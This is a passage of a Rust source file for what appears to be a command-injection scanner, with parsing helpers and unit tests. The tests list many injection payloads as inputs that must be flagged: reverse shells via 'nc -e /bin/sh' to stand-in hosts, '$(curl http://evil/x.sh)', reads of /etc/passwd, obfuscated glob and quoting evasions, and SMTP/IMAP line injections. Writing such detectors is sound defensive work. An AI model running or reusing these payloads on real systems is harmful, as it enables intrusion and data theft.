/// (`` 127.0.0.1`id` ``) or follow shell punctuation (`` ; `id` ``), and a span
/// that ends the value (`` x `id` ``) still counts.
/// Returns the closing backtick's index.
fn markdown_code_span(bytes: &[u8], i: usize) -> Option<usize> {
    let prose_before = i >= 2 && at(bytes, i - 1) == b' ' && at(bytes, i - 2).is_ascii_alphabetic();
    if !prose_before {
        return None;
    }
    let len = bytes
        .get(i + 1..)
        .and_then(|r| r.iter().position(|b| *b == b'`'))?;
    let close = i + 1 + len;
    let after = at(bytes, close + 1);
    let prose_after = (after == b' ' && at(bytes, close + 2).is_ascii_alphabetic())
        || (matches!(after, b'.' | b',' | b'!' | b'?' | b')')
            && matches!(at(bytes, close + 2), 0 | b' ' | b'\n'));
    prose_after.then_some(close)
}

/// Whether what follows the command word at `i` looks like shell arguments: an option
/// (`-la`, `--version`), an absolute or home path, a redirection, a pipe, a variable,
/// a quote, a URL, or brace expansion (`{cat,/etc/passwd}`).
fn shell_argument(bytes: &[u8], i: usize) -> bool {
    let mut j = i;
    while matches!(at(bytes, j), b' ' | b'\t' | b'+') {
        j += 1;
    }
    if j == i
        && !matches!(
            at(bytes, j),
            b'<' | b'>' | b'|' | b';' | b'&' | b'`' | b'$' | b')'
        )
    {
        return false;
    }
    let b = at(bytes, j);
    let next = at(bytes, j + 1);
    match b {
        b'-' => next.is_ascii_alphabetic() || next == b'-',
        b'/' | b'~' | b'$' | b'`' | b'>' | b'<' | b'|' | b';' | b'\\' | b'*' => true,
        b'&' => next == b'&' || next == b'>',
        b'.' => next == b'/' || next == b'.',
        b')' => true,
        b'\'' | b'"' => true,
        b'%' => next == b'%' || next.is_ascii_alphabetic(),
        _ if b.is_ascii_alphabetic() => {
            // `c:\`, `http://`, `file.txt`-like arguments.
            let rest = bytes.get(j..).unwrap_or(&[]);
            let word_len = rest
                .iter()
                .position(|c| {
                    !(c.is_ascii_alphanumeric() || *c == b'.' || *c == b'_' || *c == b'-')
                })
                .unwrap_or(rest.len());
            let sep = at(rest, word_len);
            sep == b':' && (word_len == 1 || matches!(at(rest, word_len + 1), b'\\' | b'/'))
        }
        _ => false,
    }
}

/// Arguments of a value that starts with a command word (`ls -la`, `cat /etc/passwd`,
/// `nc -e`, `wget http://...`, `sort > x`): an option, an absolute or home path, a
/// variable, a redirection or a pipe after a blank. Prose ("cat pictures") has none.
fn start_argument(bytes: &[u8], i: usize) -> bool {
    let mut j = i;
    while matches!(at(bytes, j), b' ' | b'\t' | b'+') {
        j += 1;
    }
    if j == i {
        return false;
    }
    let b = at(bytes, j);
    let next = at(bytes, j + 1);
    match b {
        b'-' => next.is_ascii_alphabetic() || next == b'-',
        b'/' | b'~' | b'$' | b'`' | b'>' | b'<' | b'|' => true,
        _ if b.is_ascii_alphabetic() => {
            // `c:\`, `http://`.
            let rest = bytes.get(j..).unwrap_or(&[]);
            let word_len = rest
                .iter()
                .position(|c| !c.is_ascii_alphanumeric())
                .unwrap_or(rest.len());
            at(rest, word_len) == b':' && matches!(at(rest, word_len + 1), b'\\' | b'/')
        }
        _ => false,
    }
}

/// A command name that only a command line spells: an executable whose name is
/// joined with `-` (`ansible-config`, `chef-shell`, `aa-disable`; listed as such, so
/// a service called `php-fpm` is not one), a binary with a dotted version
/// (`python3.10`; prose writes "Python 3.10"), or a privileged administration tool.
fn command_line_name(word: &str, listed: bool, dotted_version: bool) -> bool {
    (listed && word.contains('-'))
        || dotted_version
        || ADMIN.iter().any(|name| name.eq_ignore_ascii_case(word))
}

/// A separator glued to the command word and followed by more (`whoami;0`,
/// `uname|x`): a command list. Prose puts a blank after its semicolon.
fn glued_separator(bytes: &[u8], i: usize) -> bool {
    matches!(at(bytes, i), b';' | b'|' | b'&')
        && !matches!(at(bytes, i + 1), 0 | b' ' | b'\t' | b'\n' | b'\r')
}

/// Bash tilde expansion of the directory stack (`~+` = `$PWD`, `~-` = `$OLDPWD`,
/// `~+2`, `~-1`) as a word of its own: at the start or after a blank or shell
/// punctuation, and ending the value or followed by a blank, `/` or a separator.
/// No text writes it: an approximate number has a decimal point or no sign
/// (`~-0.3`, `~5`), an emoticon more tildes (`~-~`).
fn tilde_expansion(bytes: &[u8]) -> Option<(&'static str, usize)> {
    let mut from = 0;
    while let Some(p) = bytes
        .get(from..)
        .and_then(|r| r.iter().position(|b| *b == b'~'))
    {
        let i = from + p;
        from = i + 1;
        let before = if i == 0 { b' ' } else { at(bytes, i - 1) };
        if !matches!(
            before,
            b' ' | b'\t' | b';' | b'|' | b'&' | b'`' | b'(' | b'='
        ) {
            continue;
        }
        if !matches!(at(bytes, i + 1), b'+' | b'-') {
            continue;
        }
        let mut j = i + 2;
        while j < i + 4 && at(bytes, j).is_ascii_digit() {
            j += 1;
        }
        if matches!(
            at(bytes, j),
            0 | b' ' | b'\t' | b'\n' | b'\r' | b'/' | b';' | b'|' | b'&' | b')'
        ) {
            return Some(("tilde expansion", i));
        }
    }
    None
}

/// An option among the first few arguments (`ansible all -m ping`): enough at the
/// start of a value for a rare command.
fn later_option(bytes: &[u8], i: usize) -> bool {
    let line_end = bytes
        .get(i..)
        .and_then(|r| {
            r.iter()
                .position(|b| matches!(b, b'\n' | b'\r' | b';' | b'|' | b'&'))
        })
        .map_or(bytes.len(), |p| i + p);
    let args = bytes.get(i..line_end).unwrap_or(&[]);
    args.split(|b| matches!(b, b' ' | b'\t' | b'+'))
        .filter(|w| !w.is_empty())
        .take(4)
        .any(|w| {
            w.first() == Some(&b'-')
                && w.get(1)
                    .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'-')
        })
}

/// Shell expansions with no use outside a shell: arithmetic `$((...))` and the
/// deprecated `$[...]` with an operator (or empty), and parameter expansion with
/// an operator (`${x#pat}`, `${PATH%/*}`, `${v:-def}`, `${v//a/b}`). JSONPath's
/// `$[0]` and template strings' `${name}` have neither.
fn expansion(bytes: &[u8]) -> Option<(&'static str, usize)> {
    let mut from = 0;
    while let Some(p) = bytes
        .get(from..)
        .and_then(|r| r.iter().position(|b| *b == b'$'))
    {
        let i = from + p;
        from = i + 1;
        match (at(bytes, i + 1), at(bytes, i + 2)) {
            (b'(', b'(') => return Some(("arithmetic expansion", i)),
            (b'[', _) => {
                let body = bytes.get(i + 2..).unwrap_or(&[]);
                let Some(close) = body.iter().take(64).position(|b| *b == b']') else {
                    continue;
                };
                let body = body.get(..close).unwrap_or(&[]);
                let arithmetic = body
                    .iter()
                    .any(|b| matches!(b, b'+' | b'-' | b'*' | b'/' | b'%'))
                    && body
                        .iter()
                        .all(|b| b.is_ascii_alphanumeric() || b" +-*/%()_$".contains(b));
                if body.is_empty() || arithmetic {
                    return Some(("arithmetic expansion", i));
                }
            }
            (b'{', c) if c.is_ascii_alphabetic() || c == b'_' => {
                let mut j = i + 2;
                while at(bytes, j).is_ascii_alphanumeric() || at(bytes, j) == b'_' {
                    j += 1;
                }
                let op = (at(bytes, j), at(bytes, j + 1));
                let parameter_op = matches!(op.0, b'#' | b'%' | b'/' | b'^' | b',')
                    || (op.0 == b':' && matches!(op.1, b'-' | b'=' | b'+' | b'?'));
                let closes = bytes
                    .get(j..)
                    .is_some_and(|r| r.iter().take(64).any(|b| *b == b'}'));
                if parameter_op && closes {
                    return Some(("parameter expansion", i));
                }
            }
            _ => {}
        }
    }
    None
}

/// Two bash history designators in a row (`!-1!-2`, `!!!-3`): re-running earlier
/// commands; no text writes them.
fn history(bytes: &[u8]) -> Option<(&'static str, usize)> {
    let designator = |i: usize| match (at(bytes, i), at(bytes, i + 1)) {
        (b'!', b'!') => Some(i + 2),
        (b'!', b'-') if at(bytes, i + 2).is_ascii_digit() => {
            let mut j = i + 2;
            while at(bytes, j).is_ascii_digit() {
                j += 1;
            }
            Some(j)
        }
        _ => None,
    };
    let mut from = 0;
    while let Some(p) = bytes
        .get(from..)
        .and_then(|r| r.iter().position(|b| *b == b'!'))
    {
        let i = from + p;
        if let Some(next) = designator(i)
            && designator(next).is_some()
            && (i == 0 || !at(bytes, i - 1).is_ascii_alphanumeric())
        {
            return Some(("history expansion", i));
        }
        from = i + 1;
    }
    None
}

/// Whether an English contraction's ending starts at `i` (after its quote):
/// `d`, `s`, `t`, `m`, `ll`, `re` or `ve`, then no more of the word and no
/// closing quote (`i'd'` is a quoted `id`).
fn contraction(bytes: &[u8], i: usize) -> bool {
    ["d", "s", "t", "m", "ll", "re", "ve"].iter().any(|ending| {
        let ending = ending.as_bytes();
        let after = at(bytes, i + ending.len());
        bytes
            .get(i..i + ending.len())
            .is_some_and(|b| b.eq_ignore_ascii_case(ending))
            && !(after.is_ascii_alphanumeric() || matches!(after, b'\'' | b'"'))
    })
}

/// Whether `head` followed by the glob `tail` (`?` one char, `*` any run) matches
/// `name`, case-insensitively.
fn glob_matches(head: &[u8], tail: &[u8], name: &[u8]) -> bool {
    if name.len() < head.len() || !name[..head.len()].eq_ignore_ascii_case(head) {
        return false;
    }
    glob(tail, &name[head.len()..])
}

/// Iterative, backtracking only to the last `*`: O(pattern x name) at
/// worst. Trying every split at every `*` recursively took exponential
/// time: `;` and 18 `*` held detection for 42 s.
fn glob(pattern: &[u8], name: &[u8]) -> bool {
    let (mut p, mut n) = (0, 0);
    // After the last `*` seen: where the pattern resumes, and the name
    // position that `*` has swallowed up to.
    let mut star: Option<(usize, usize)> = None;
    while let Some(&c) = name.get(n) {
        match pattern.get(p) {
            Some(b'*') => {
                p += 1;
                star = Some((p, n));
            }
            Some(&q) if q == b'?' || q.eq_ignore_ascii_case(&c) => {
                p += 1;
                n += 1;
            }
            _ => match star {
                Some((resume, swallowed)) => {
                    p = resume;
                    n = swallowed + 1;
                    star = Some((resume, n));
                }
                None => return false,
            },
        }
    }
    pattern
        .get(p..)
        .is_some_and(|rest| rest.iter().all(|&q| q == b'*'))
}

/// Whether only blanks stand between a line break and `start`.
fn after_line_break(bytes: &[u8], start: usize) -> bool {
    let before = bytes.get(..start).unwrap_or(&[]);
    before
        .iter()
        .rev()
        .find(|b| !matches!(b, b' ' | b'\t'))
        .is_some_and(|b| matches!(b, b'\n' | b'\r'))
}

/// `Python`, `Expect`: a capital, then lower case only, as a sentence
/// starts; shells run commands in lower case (`python`).
fn capitalised(word: &str) -> bool {
    let mut chars = word.chars();
    chars.next().is_some_and(|c| c.is_ascii_uppercase())
        && word.len() > 1
        && chars.all(|c| !c.is_ascii_uppercase())
}

/// Any plain word argument (`nc attacker.net 4444`): enough after a weak boundary for
/// a rare command, never for a common word.
fn plain_argument(bytes: &[u8], i: usize) -> bool {
    matches!(at(bytes, i), b' ' | b'\t' | b'+') && {
        let mut j = i;
        while matches!(at(bytes, j), b' ' | b'\t' | b'+') {
            j += 1;
        }
        at(bytes, j).is_ascii_alphanumeric()
    }
}

/// A number or an address for the only argument (`sleep 5`, `ping 10.0.0.1`),
/// ending the value or followed by a shell boundary: "sleep 8 hours" is prose.
fn numeric_argument(bytes: &[u8], i: usize) -> bool {
    if !matches!(at(bytes, i), b' ' | b'\t' | b'+') {
        return false;
    }
    let mut j = i;
    while matches!(at(bytes, j), b' ' | b'\t' | b'+') {
        j += 1;
    }
    let digits = j;
    while at(bytes, j).is_ascii_digit() || at(bytes, j) == b'.' {
        j += 1;
    }
    j > digits && at(bytes, digits).is_ascii_digit() && arg_end(bytes, j)
}

/// The command word ends the value or is followed by another shell boundary.
fn arg_end(bytes: &[u8], i: usize) -> bool {
    let mut j = i;
    while matches!(at(bytes, j), b' ' | b'\t') {
        j += 1;
    }
    j >= bytes.len()
        || matches!(
            at(bytes, j),
            b';' | b'|' | b'&' | b'`' | b')' | b'\n' | b'\r' | b'#' | b'}'
        )
}

/// SMTP, POP3 and IMAP verbs at the start of an injected line (`%0d%0aRCPT TO:`).
fn mail_verb(bytes: &[u8], i: usize) -> Option<(&'static str, usize)> {
    let mut j = i;
    while matches!(at(bytes, j), b'\n' | b'\r') {
        j += 1;
    }
    let line_end = bytes
        .get(j..)
        .and_then(|r| r.iter().position(|b| matches!(b, b'\r' | b'\n')))
        .map_or(bytes.len(), |p| j + p);
    let line = bytes.get(j..line_end)?;
    let verb_match = |verb: &str, line: &[u8]| {
        let v = verb.as_bytes();
        line.len() >= v.len()
            && line
                .get(..v.len())
                .is_some_and(|l| l.eq_ignore_ascii_case(v))
            && matches!(at(line, v.len()), 0 | b' ' | b':')
    };
    // Verbs are short commands: a prose line starting "Data shows..." is long, and
    // the verbs that take no argument (`DATA`, `QUIT`) stand alone ("data not
    // found." is prose).
    const BARE_VERBS: &[&str] = &["data", "rset", "quit", "noop", "starttls", "capa"];
    let bare_ok = |v: &&str| !BARE_VERBS.contains(v) || line.trim_ascii().len() == v.len();
    if line.len() <= 80
        && MAIL_VERBS.iter().any(|v| verb_match(v, line) && bare_ok(v))
        && line.iter().filter(|b| **b == b' ').count() <= 3
    {
        // A verb alone on a line or with a short argument.
        return Some(("mail protocol command", j));
    }
    // IMAP: `<tag> <verb> ...`.
    let tag_len = line.iter().position(|b| *b == b' ')?;
    let tag = line.get(..tag_len)?;
    if tag.is_empty()
        || tag.len() > 8
        || !tag.iter().all(u8::is_ascii_alphanumeric)
        || !tag.iter().any(u8::is_ascii_digit)
    {
        return None;
    }
    let rest = line.get(tag_len + 1..)?;
    IMAP_VERBS
        .iter()
        .any(|v| verb_match(v, rest))
        .then_some(("mail protocol command", j))
}

/// A glob inside a system path: `/etc/pas[s]wd`, `/bi[n]/bash`, `/usr/[a-z]in/sh`,
/// `/etc/*sswd`. The shell expands it; no legitimate request spells paths this way.
fn bracket_glob(bytes: &[u8]) -> Option<(&'static str, usize)> {
    const ROOTS: &[&[u8]] = &[
        b"/etc", b"/bin", b"/bi[", b"/usr", b"/sbin", b"/proc", b"/dev", b"/var", b"/tmp", b"/[",
    ];
    let mut i = 0;
    while let Some(p) = bytes
        .get(i..)
        .and_then(|r| r.iter().position(|b| *b == b'/'))
    {
        let start = i + p;
        let rest = bytes.get(start..).unwrap_or(&[]);
        let path_len = rest
            .iter()
            .position(|b| matches!(b, b' ' | b'+' | b'&' | b'=' | b';' | b'"' | b'\''))
            .unwrap_or(rest.len());
        let path = rest.get(..path_len).unwrap_or(&[]);
        let rooted = ROOTS
            .iter()
            .any(|r| path.len() >= r.len() && path[..r.len()].eq_ignore_ascii_case(r));
        if rooted
            && path.len() > 3
            && path.iter().skip(1).any(|b| matches!(b, b'[' | b'?' | b'*'))
            && path.iter().skip(1).any(u8::is_ascii_alphabetic)
        {
            return Some(("glob path", start));
        }
        i = start + path_len.max(1);
    }
    None
}

/// A path made of glob characters, `/???/??t /???/p??s??`: shells expand it to a
/// command or file; nothing else writes paths this way.
fn glob_path(bytes: &[u8]) -> Option<(&'static str, usize)> {
    let mut i = 0;
    while i < bytes.len() {
        if at(bytes, i) == b'/' {
            let seg_start = i + 1;
            let mut j = seg_start;
            let mut globs = 0;
            while j < bytes.len()
                && !matches!(at(bytes, j), b'/' | b' ' | b'+' | b'&' | b'=' | b';')
            {
                if matches!(at(bytes, j), b'?' | b'*' | b'[') {
                    globs += 1;
                }
                j += 1;
            }
            let seg_len = j - seg_start;
            if globs >= 2 && seg_len > 0 && globs * 2 >= seg_len && at(bytes, j) == b'/' {
                return Some(("glob path", i));
            }
            i = j;
        } else {
            i += 1;
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> bool {
        Scanner::new().is_ok_and(|x| x.scan(s).is_some())
    }

    #[test]
    fn glob_matches_as_a_shell_does() {
        for (pattern, name, want) in [
            ("c?t", "cat", true),
            ("C*", "cat", true),
            ("*", "", true),
            ("*t", "cat", true),
            ("*a*", "cat", true),
            ("c*t*", "cat", true),
            ("c??", "ca", false),
            ("*x", "cat", false),
            ("ca", "cat", false),
            ("p*s*d", "passwd", true),
            ("p*s*e", "passwd", false),
        ] {
            assert_eq!(
                glob(pattern.as_bytes(), name.as_bytes()),
                want,
                "{pattern} {name}"
            );
        }
        // Many stars that cannot match: answered at once, where trying every
        // split recursively took exponential time (18 stars: 42 s).
        let stars = "*".repeat(200);
        assert!(!glob(
            format!("{stars}7").as_bytes(),
            "a".repeat(300).as_bytes()
        ));
        assert!(glob(
            format!("{stars}a").as_bytes(),
            "a".repeat(300).as_bytes()
        ));
        assert!(!hit(&format!(";{}7", "*".repeat(64))));
    }

    #[test]
    fn sentences_after_line_breaks_are_prose_and_glued_commands_are_not() {
        for prose in [
            "message=Hi team,\r\nNice work on the release!",
            "Dear support,\nPython is not starting after the update",
            "comment=Great product.\nExpect a review soon",
        ] {
            assert!(!hit(prose), "{prose}");
        }
        for attack in [
            "ip=127.0.0.1|sleep 5",
            "ip=127.0.0.1&&sleep 5",
            "x||sleep 5",
            "a|cat index.php",
            "a&&cat config.php",
            "q=1\npython -c 'import os'",
            "q=1\nwhoami",
            // Timing probes glued to `;`.
            "ip=127.0.0.1;sleep 5",
            ";sleep 5",
            "x;sleep+10;",
            "host=a;ping 10.0.0.1",
        ] {
            assert!(hit(attack), "{attack}");
        }
        for prose in [
            "Mon-Fri;sleep 8 hours",
            "note=tired; sleep 5",
            "a=1;sleep=5",
            "todo;sleep 7.5h",
        ] {
            assert!(!hit(prose), "{prose}");
        }
    }

    #[test]
    fn markdown_tables_are_documentation() {
        for table in [
            "| Command | What it does |\n|---|---|\n| ls | lists files |\n| cat | prints a file |",
            "| Name | Role |\n|:----|----:|\n| who | admin |",
            "Release notes\n\n| Tool | Version |\n|------|---------|\n| curl | 8.5 |\n| node | 20 |\n",
            "  | Step | Result |\r\n  | --- | --- |\r\n  | ping | 12 ms |  ",
        ] {
            assert!(!hit(table), "{table}");
        }
        for attack in [
            // A cell that is a command line, as a value of its own would be.
            "| a | b |\n|---|---|\n| cat /etc/passwd | x |",
            "| a |\n|---|\n| nc -e /bin/sh evil.example 4444 |",
            // Shell syntax inside a cell, and pipes outside the table.
            "| a |\n|---|\n| x;nc evil.example 4444 |",
            "| a |\n|---|\n| $(id) |",
            "| a |\n|---|\nx | ls\n",
            // No delimiter row: not a table.
            "| ls | cat |",
        ] {
            assert!(hit(attack), "{attack:?}");
        }
    }

    #[test]
    fn runs_of_backticks_read_once_and_still_count() {
        // The word after a run of backticks (pairs are empty substitutions),
        // whatever the run's parity.
        assert!(hit("x````id"));
        assert!(hit("x```id`"));
        assert!(hit("q=1;pi````ng -c 3 10.0.0.1"));
        assert!(!hit(&"`".repeat(64 * 1024)));
    }

    #[test]
    fn contractions_are_prose() {
        for prose in [
            "I'd like a refund",
            "comment=I'd+like+a+refund+please",
            "{\"message\":\"I'd love to join\"}",
            "Thanks; I'd rather not",
            "title=I'd Do Anything for Love",
            "we'll see; don't worry",
        ] {
            assert!(!hit(prose), "{prose}");
        }
        // A quoted `id` is still one.
        for attack in [";i'd'", ";i\"d\"", "x|wh'o'ami"] {
            assert!(hit(attack), "{attack}");
        }
    }

    #[test]
    fn runs_of_line_breaks_and_braces_are_read_once() {
        // 64 KiB of line breaks (was quadratic: 1.5 s), then a command.
        let breaks = "\n".repeat(64 * 1024);
        assert!(hit(&format!("{breaks}cat /etc/passwd")));
        assert!(!hit(&breaks));
        assert!(hit(&format!("x{}\r\nRCPT TO:<a@b.c>", "{".repeat(1000))));
        // A brace then a line break: still a strong boundary.
        assert!(hit("{\nwhoami"));
    }

    #[test]
    fn detects_injections() {
        for attack in [
            ";id",
            "x=;who",
            "127.0.0.1; cat /etc/passwd",
            "127.0.0.1 | nc -e /bin/sh 10.0.0.1 4444",
            "`whoami`",
            "$(curl http://evil/x.sh)",
            "a && ping -c 10 127.0.0.1",
            ";c'a't /etc/passwd",
            "; w$@hoami",
            "cat${IFS}/etc/passwd",
            "() { :; }; /bin/bash -c 'id'",
            "ls -la",
            "cmd /c dir",
            "FOR /F %%G IN ('dir') DO ECHO %%G",
            "IF EXIST C:\\x.txt (CMD)",
            "\r\nRCPT TO:<a@b.c>",
            "\r\na001 LOGIN user pass",
            "/???/??t /???/p??s??",
            ";/bin/ca?+/et*/passwd",
            "{cat,/etc/passwd}",
            "for %variable in (set) do command",
            "IF /I item1==item2 CMD",
            "alias eennvv=env&eennvv whoami",
            "time sh -c whoami",
            "/etc/pas[s]wd",
            "/usr/[a-z]in/bash",
            "<(cat file)",
            ";iwr http://example.com/x.ps1",
            "python3.10 -c 'import os'",
            "& FOR %- IN (a,b,c) DO cmd",
            "IF %ERRORLEVEL% EQU 2 goto sub",
            "time ifconfig",
            "time; ansible-config dump",
            ";perf --version",
            // Expansions no text uses.
            "$[2+2]",
            "$[]",
            "${x#{}}",
            "${PATH#{}/}",
            "$(($()42))",
            "$((7))z -wrapper sh,-c,curl google.com .",
            "!-1!-2",
            // Brace expansion assembling a command.
            "{l,-lh}s",
            "c{a,oun}t",
            "{,ip,a}",
            "{,ifconfig,eth0}",
            // Batch IF with quoted operands and a glued switch.
            "if \"A A\" == \"A A\" echo same",
            "if/i a==b foo",
            // Binary directories, unset-variable spacers, glued switches, quotes.
            "bin/ansible",
            "/usr/sbin/visudo",
            "|$u wget test",
            "view=image.jpg&bcdboot/r file.txt",
            "';htop'",
            ";trap 'rm -rf file.txt' SIGEXIT",
            "time; chef-run all recipie.rb",
            "'i'p a",
            "ansible all -m ping",
        ] {
            assert!(hit(attack), "missed {attack:?}");
        }
    }

    #[test]
    fn reads_command_lines_without_shell_syntax() {
        for attack in [
            // Executables joined with `-`, alone or with plain arguments.
            "ansible-pull repo.git",
            "ansible-inventory\n",
            "chef-client",
            "aa-complain nginx",
            // A binary with a dotted version, privileged administration tools.
            "php7.4 info.php",
            "visudo",
            "cscli decisions list",
            "\"useradd\" eve",
            // A separator glued to a rare command.
            "uname;x",
            "wget|sh",
            // Directory-stack tilde expansion.
            "~+",
            "~-",
            "~-2",
            "~+/uploads",
            "x;~-/secret",
        ] {
            assert!(hit(attack), "missed {attack:?}");
        }
    }

    #[test]
    fn undoes_empty_substitutions_and_bare_brace_lists() {
        for attack in [
            "wh``oami",
            "ca$()t /etc/hosts",
            "uname<() -a",
            "wget>() x",
            "{,cat,/etc/hosts}",
            "{,$'id',}",
            "{,\"uname\",-a}",
            // Quotes between every letter, trailing ones included.
            "\"\"u\"\"n\"\"a\"\"m\"\"e\"\" \"\"-a\"\"",
        ] {
            assert!(hit(attack), "missed {attack:?}");
        }
    }

    #[test]
    fn passes_ordinary_text() {
        for benign in [
            "rock & roll",
            "a=1&id=5&type=json",
            "cat pictures",
            "find a store near me",
            "Tom & Jerry; who is faster",
            "fish & chips",
            "python tutorial",
            "R&D",
            "Q&A session",
            "echo chamber",
            "time=10:30",
            "data shows the trend\nand more",
            "Hello! World.\ndata not found.",
            "/search?q=x",
            "fields=id,name,email",
            "gzip, deflate, br",
            "\"TRUE\"",
            "BASE; SET SWAROVSKI",
            "get /api/users",
            "/api/v1/contacts/{id}",
            "for a while in (the) park",
            "if you want",
            "/api/items[0]/name",
            "time flies",
            "time python tutorial",
            // Neighbours of the expansion, brace, history and path rules.
            "$[0].name",
            "$['store']['book']",
            "Hello ${name}, welcome",
            "fields={id,name}",
            "{a,b,c}",
            "wow!! great!!",
            "/bin/x7Gq2",
            "recycle bin/cat photos",
            "if foo==",
            "<pdf>if foo==</pdf>",
            "Run `ls -la` and paste the output here",
            "ansible tutorial",
            "red;$5 each",
            ";$a $b $c",
            // Neighbours of the command-line, glued-separator and tilde rules.
            "php-fpm",
            "node-exporter",
            "python-requests/2.31.0",
            "Python 3.10 release notes",
            "python3 tutorial",
            "ansible tutorial",
            "chef knife set",
            "ls engine",
            "python; java; go",
            "~5 minutes",
            "~-0.3 correlation",
            "~-~ hi ~-~",
            "~/notes",
            "see https://x.io/a|b for details",
            "Salt & pepper; to taste",
            "use ``code`` spans",
            "f() returns $() in docs",
            "{,a,b}",
            "{,name,}",
            "{, cat, dog}",
        ] {
            assert!(!hit(benign), "flagged {benign:?}");
        }
    }
}
